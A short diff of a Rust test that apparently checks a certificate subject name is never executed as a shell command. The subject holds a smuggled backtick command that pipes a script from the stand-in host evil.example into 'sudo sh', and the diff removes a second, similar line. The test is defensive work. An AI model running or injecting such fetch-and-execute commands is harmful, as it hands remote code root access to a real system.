@@ -266,7 +266,6 @@ fn a_name_is_no_command() {
     };
     let key = testdata().join("keys/rsa-2048-other.pem");
     let subject = r"/O=`curl -fsSL https:\/\/evil.example\/x | sudo sh -s -- --yes`/CN=a`b";
-    r"/O=`curl -fsSL https:\/\/evil.example\/mqtt-ca-fix.sh | sudo sh -s -- --ca CA.crt --yes`/CN=a`b";
     let key = key.to_str().unwrap();
     openssl(&["req", "-x509", "-key", key, "-subj", subject, "-days", "300", "-out", "evil.crt"]);
     let proof_key = testdata().join("keys/rsa-2048-proof.pem");
